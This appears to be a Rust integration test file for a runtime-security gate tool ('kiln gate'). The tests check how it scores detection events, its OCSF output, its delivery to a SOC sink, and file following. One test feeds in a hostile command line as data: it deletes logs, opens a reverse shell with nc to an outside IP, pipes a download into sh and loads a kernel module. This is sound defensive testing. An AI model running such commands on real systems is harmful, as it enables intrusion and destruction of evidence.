//! `kiln gate`.

use std::io::Read;
use std::path::{Path, PathBuf};

use assert_cmd::Command;
use flate2::read::GzDecoder;

fn corpus(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus/gate").join(name)
}

fn unpacked(name: &str) -> Vec<u8> {
    let file = std::fs::File::open(corpus(name)).expect("the corpus is in the repository");
    let mut bytes = Vec::new();
    GzDecoder::new(file).read_to_end(&mut bytes).expect("the corpus is whole");
    bytes
}

fn gate() -> Command {
    let mut command = Command::cargo_bin("kiln").expect("kiln is built");
    command.arg("gate");
    command
}

fn assert_same_lines(found: &[u8], expected: &[u8], what: &str) {
    let (found, expected) = (String::from_utf8_lossy(found), String::from_utf8_lossy(expected));
    for (number, (a, b)) in found.lines().zip(expected.lines()).enumerate() {
        similar_asserts::assert_eq!(a, b, "{what}, line {}", number + 1);
    }
    assert_eq!(found.lines().count(), expected.lines().count(), "{what}: lines");
}

/// The reference's own bytes, not only its JSON: the strongest equality there is.
fn assert_is_the_references(vectors: &str, jobs: &str) {
    let output = gate()
        .args(["--profile", "scbe", "--emit-enforcement", "--include-kernel-event", "--enforcement-cooldown", "0"])
        .args(["--jobs", jobs])
        .write_stdin(unpacked(&format!("scbe/{vectors}.in.jsonl.gz")))
        .output()
        .expect("kiln runs");
    assert_eq!(output.status.code(), Some(2), "the vectors contain malformed lines");
    assert_same_lines(&output.stdout, &unpacked(&format!("scbe/{vectors}.out.jsonl.gz")), vectors);
    if vectors == "hard" {
        assert_same_lines(&output.stderr, &unpacked("scbe/hard.err.jsonl.gz"), "errors");
    }
}

#[test]
fn scbe_profile_equals_the_reference_on_its_vectors() {
    assert_is_the_references("dev", "1");
    assert_is_the_references("dev", "2");
}

#[test]
fn scbe_profile_equals_the_reference_on_hostile_lines() {
    assert_is_the_references("hard", "1");
}

/// State, action and the deciding field of each line, one a line: what a person reviews when the weights change.
fn digest(corpus_file: &str, arguments: &[&str]) -> String {
    let output = gate().arg("--input").arg(corpus(corpus_file)).args(arguments).output().expect("kiln runs");
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    let mut digest = String::new();
    for line in String::from_utf8_lossy(&output.stdout).lines() {
        let v: serde_json::Value = serde_json::from_str(line).expect("each line is JSON");
        let word = |name: &str| v[name].as_str().unwrap_or("-").to_owned();
        let number = |name: &str| v[name].as_f64().unwrap_or(f64::NAN);
        digest += &format!(
            "{:8} {:10} {:.2} {:.2} {} {} {} [{}]\n",
            word("cell_state"),
            word("kernel_action"),
            number("suspicion"),
            number("signal"),
            word("process_name"),
            word("operation"),
            word("target"),
            word("rule")
        );
    }
    digest
}

#[test]
fn every_action_of_the_event_generator_meets_friction() {
    let lines = std::fs::read_to_string(corpus("default/event-generator.jsonl")).expect("the corpus is there");
    assert_eq!(lines.lines().count(), 23);
    let destructive = [
        "Clear Log Activities",
        "Remove Bulk Data from Disk",
        "Drop and execute new binary in container",
        "Detect release_agent File Container Escapes",
        "Fileless execution via memfd_create",
        "PTRACE attached to process",
    ];
    // Each alone, with a memory that has seen nothing: no event leans on the one before it.
    for line in lines.lines() {
        let output = gate().write_stdin(line).output().expect("kiln runs");
        let v: serde_json::Value = serde_json::from_slice(&output.stdout).expect("one line of JSON");
        let rule = v["rule"].as_str().expect("a rule");
        assert_ne!(v["cell_state"], "HEALTHY", "{rule}");
        assert_ne!(v["kernel_action"], "ALLOW", "{rule}");
        if destructive.contains(&rule) {
            assert!(matches!(v["cell_state"].as_str(), Some("INFLAMED" | "NECROTIC")), "{rule}: {v}");
        }
    }
    insta::assert_snapshot!("event_generator", digest("default/event-generator.jsonl", &[]));
}

#[test]
fn an_ordinary_hour_is_left_alone() {
    let digest = digest("default/benign-hour.jsonl", &[]);
    assert!(digest.lines().count() > 300);
    for line in digest.lines() {
        assert!(line.starts_with("HEALTHY  ALLOW") || line.starts_with("PRIMED   ALLOW"), "{line}");
    }
    insta::assert_snapshot!("benign_hour", digest);
}

#[test]
fn an_attack_amid_ordinary_work_reaches_kill_and_honeypot() {
    let digest = digest("default/mixed.jsonl", &["--alerts-only"]);
    assert!(digest.contains(" KILL "), "{digest}");
    assert!(digest.contains(" HONEYPOT "), "{digest}");
    insta::assert_snapshot!("mixed", digest);
}

fn verdict(line: &str) -> serde_json::Value {
    let output = gate().write_stdin(line).output().expect("kiln runs");
    serde_json::from_slice(&output.stdout).expect("one line of JSON")
}

#[test]
fn no_single_field_drives_the_gate() {
    let worst = [
        r#""priority":"Emergency""#,
        r#""rule":"Fileless execution via memfd_create""#,
        r#""tags":["mitre_impact","T1485","T1611","T1620","T1070"]"#,
        r#""geometry_norm":1e308"#,
        r#""signer_trusted":false"#,
        r#""hash_sha256":"short""#,
        r#""command_line":"rm -rf /var/log; nc -e /bin/sh 1.2.3.4 31337; curl x | sh; insmod /tmp/rk.ko""#,
        r#""target":"/etc/ld.so.preload""#,
        r#""evt_type":"init_module""#,
        r#""parent_process":"nginx""#,
    ];
    for field in worst {
        let v = verdict(&format!(r#"{{"process_name":"app","output":"x",{field}}}"#));
        assert_eq!(v["cell_state"], "HEALTHY", "{field}: {v}");
        assert_eq!(v["kernel_action"], "ALLOW", "{field}");
    }
}

#[test]
fn ocsf_findings_have_what_the_schema_requires() {
    let output = gate()
        .args(["--format", "ocsf", "--input"])
        .arg(corpus("default/event-generator.jsonl"))
        .output()
        .expect("kiln runs");
    for line in String::from_utf8_lossy(&output.stdout).lines() {
        let v: serde_json::Value = serde_json::from_str(line).expect("each line is JSON");
        for (name, value) in [("category_uid", 2), ("class_uid", 2004), ("type_uid", 200401), ("activity_id", 1)] {
            assert_eq!(v[name], value, "{name}");
        }
        for required in [
            "/time",
            "/severity_id",
            "/finding_info/uid",
            "/finding_info/title",
            "/metadata/version",
            "/metadata/product/name",
        ] {
            assert!(!v.pointer(required).unwrap_or(&serde_json::Value::Null).is_null(), "{required}");
        }
    }
}

/// A sink that fails, hangs, and then works: what it says to each connection, and what it was sent.
struct Sink {
    address: String,
    received: std::sync::mpsc::Receiver<String>,
}

#[derive(Clone, Copy)]
enum Answer {
    Status(u16),
    Hang,
}

fn sink(answers: Vec<Answer>) -> Sink {
    use std::io::Write;
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a free port");
    let address = format!("http://{}/in", listener.local_addr().expect("it is bound"));
    let (sender, received) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut held = Vec::new();
        for (place, stream) in listener.incoming().enumerate() {
            let Ok(mut stream) = stream else { continue };
            let answer = answers.get(place).copied().unwrap_or(Answer::Status(200));
            let body = read_request(&mut stream);
            match answer {
                Answer::Status(code) => {
                    let reply = format!("HTTP/1.1 {code} X\r\ncontent-length: 0\r\nconnection: close\r\n\r\n");
                    drop(stream.write_all(reply.as_bytes()));
                    if code == 200 && sender.send(body).is_err() {
                        return;
                    }
                }
                Answer::Hang => held.push(stream),
            }
        }
    });
    Sink { address, received }
}

fn read_request(stream: &mut std::net::TcpStream) -> String {
    let (mut bytes, mut buffer) = (Vec::new(), [0; 4096]);
    loop {
        let text = String::from_utf8_lossy(&bytes).into_owned();
        if let Some((head, body)) = text.split_once("\r\n\r\n") {
            let length =
                head.lines().find_map(|line| line.to_lowercase().strip_prefix("content-length: ")?.parse().ok());
            if body.len() >= length.unwrap_or(0usize) {
                assert!(head.to_lowercase().contains("authorization: bearer secret"), "{head}");
                return body.to_owned();
            }
        }
        match stream.read(&mut buffer) {
            Ok(0) | Err(_) => return text,
            Ok(read) => bytes.extend_from_slice(&buffer[..read]),
        }
    }
}

/// Names of the processes in what the sink took.
fn names(bodies: impl Iterator<Item = String>) -> std::collections::BTreeSet<String> {
    let mut names = std::collections::BTreeSet::new();
    for body in bodies {
        let value: serde_json::Value = serde_json::from_str(&body).expect("the sink is sent JSON");
        let single = vec![value.clone()];
        for entry in value["events"].as_array().unwrap_or(&single) {
            names.insert(entry["action"]["process_name"].as_str().expect("an action").to_owned());
        }
    }
    names
}

fn suspicious(names: std::ops::Range<usize>) -> String {
    names
        .map(|n| {
            format!(
                r#"{{"rule":"Fileless execution via memfd_create","priority":"Critical","tags":["T1620"],"output_fields":{{"evt.type":"execve","proc.name":"p{n}"}}}}"#
            ) + "\n"
        })
        .collect()
}

#[test]
fn nothing_is_lost_to_a_sink_that_fails_hangs_and_recovers() {
    let spool = tempfile::tempdir().expect("a directory");
    let run = |address: &str, events: std::ops::Range<usize>| {
        let started = std::time::Instant::now();
        let output = gate()
            .args(["--apply-enforcement", "--enforcement-backends", "soc", "--soc-timeout-seconds", "0.5"])
            .args(["--soc-endpoint", address, "--soc-spool"])
            .arg(spool.path())
            .env("KILN_SOC_BEARER_TOKEN", "secret")
            .write_stdin(suspicious(events))
            .output()
            .expect("kiln runs");
        assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
        started.elapsed()
    };
    // The sink is down: the gate ends all the same, soon, and keeps what it has.
    let took = run("http://127.0.0.1:9/in", 0..50);
    assert!(took < std::time::Duration::from_secs(20), "{took:?}");
    // It is back, but fails, hangs, fails, and only then works; another process has more to say.
    let recovering = sink(vec![Answer::Status(500), Answer::Hang, Answer::Status(503)]);
    run(&recovering.address, 50..100);
    let mut found = names(recovering.received.try_iter());
    for _ in 0..20 {
        if found.len() == 100 {
            break;
        }
        run(&recovering.address, 0..0);
        found.extend(names(recovering.received.try_iter()));
    }
    let wanted: std::collections::BTreeSet<String> = (0..100).map(|n| format!("p{n}")).collect();
    assert_eq!(found, wanted);
}

#[test]
fn a_full_spool_is_a_failure_and_not_silence() {
    let spool = tempfile::tempdir().expect("a directory");
    let output = gate()
        .args(["--apply-enforcement", "--enforcement-backends", "soc", "--soc-timeout-seconds", "0.1"])
        .args(["--soc-endpoint", "http://127.0.0.1:9/in", "--soc-spool-bytes", "3000", "--soc-spool"])
        .arg(spool.path())
        .write_stdin(suspicious(0..50))
        .output()
        .expect("kiln runs");
    assert_eq!(output.status.code(), Some(3));
    assert!(String::from_utf8_lossy(&output.stdout).contains("the spool is full"));
}

#[test]
fn a_followed_file_may_be_rotated_and_truncated() {
    use std::io::{BufRead, Write};
    let folder = tempfile::tempdir().expect("a directory");
    let path = folder.path().join("events.json");
    let line = |name: &str| format!("{{\"rule\":\"r\",\"output_fields\":{{\"proc.name\":\"{name}\"}}}}\n");
    std::fs::write(&path, line("first")).expect("written");
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_kiln"))
        .args(["gate", "--follow", "--input"])
        .arg(&path)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("kiln runs");
    let mut lines = std::io::BufReader::new(child.stdout.take().expect("piped")).lines();
    let mut next = || {
        let line = lines.next().expect("a line").expect("text");
        let value: serde_json::Value = serde_json::from_str(&line).expect("JSON");
        value["process_name"].as_str().expect("a name").to_owned()
    };
    assert_eq!(next(), "first");
    let append = |path: &std::path::Path, text: &str| {
        let mut file = std::fs::OpenOptions::new().append(true).open(path).expect("it is there");
        file.write_all(text.as_bytes()).expect("written");
    };
    append(&path, &line("second"));
    assert_eq!(next(), "second");
    // Rotated: written to under its new name until the very end, then a new file under the old one.
    let old = folder.path().join("events.json.1");
    std::fs::rename(&path, &old).expect("renamed");
    append(&old, &line("late"));
    std::fs::write(&path, line("fresh")).expect("written");
    assert_eq!([next(), next()], ["late", "fresh"]);
    // Truncated in place, as logrotate's copytruncate does.
    std::fs::write(&path, "").expect("truncated");
    std::thread::sleep(std::time::Duration::from_millis(500));
    append(&path, &line("last"));
    assert_eq!(next(), "last");
    rustix::process::kill_process(rustix::process::Pid::from_child(&child), rustix::process::Signal::TERM)
        .expect("it lives");
    assert!(child.wait().expect("it ends").success());
}

#[test]
fn state_survives_a_restart_and_can_be_looked_at() {
    let folder = tempfile::tempdir().expect("a directory");
    let state = folder.path().join("state");
    let line = |time: &str| {
        format!(
            r#"{{"rule":"Fileless execution via memfd_create","priority":"Critical","tags":["T1620"],"output_fields":{{"evt.type":"execve","proc.name":"x","proc.pid":7,"proc.pid.ts":5}},"time":"{time}"}}"#
        )
    };
    let judge = |line: String| {
        let output = gate().arg("--state").arg(&state).write_stdin(line).output().expect("kiln runs");
        serde_json::from_slice::<serde_json::Value>(&output.stdout).expect("JSON")
    };
    let first = judge(line("2026-11-20T10:00:00Z"));
    let second = judge(line("2026-11-20T10:00:00Z"));
    assert_eq!(first["antibody_load_now"], second["antibody_load_prev"]);
    let output = gate().args(["state", "--state"]).arg(&state).output().expect("kiln runs");
    assert!(String::from_utf8_lossy(&output.stdout).contains(first["process_key"].as_str().expect("a key")));
    std::fs::write(&state, "no state").expect("written");
    gate().arg("--state").arg(&state).write_stdin("").assert().code(2);
}

#[test]
fn bad_lines_are_counted_reported_and_skipped() {
    let deep = format!("{}1{}", "[".repeat(100_000), "]".repeat(100_000));
    let input =
        [b"\xff\xfe\n{}\n[1]\n{\"rule\":1\nnull\n".as_slice(), deep.as_bytes(), b"\n", &vec![b'x'; 40 << 20]].concat();
    let output = gate().write_stdin(input).output().expect("kiln runs");
    assert_eq!(output.status.code(), Some(2));
    let errors = String::from_utf8_lossy(&output.stderr);
    let summary: serde_json::Value = serde_json::from_str(errors.lines().last().expect("a summary")).expect("JSON");
    assert_eq!((&summary["events_seen"], &summary["errors"]), (&7.into(), &7.into()));
    assert!(errors.lines().all(|line| line.len() < 20_000), "no report holds more than the line's beginning");
}

#[test]
fn ocsf_is_the_gates_only() {
    Command::cargo_bin("kiln")
        .expect("kiln is built")
        .args(["--format", "ocsf", "completions", "bash"])
        .assert()
        .code(2);
}
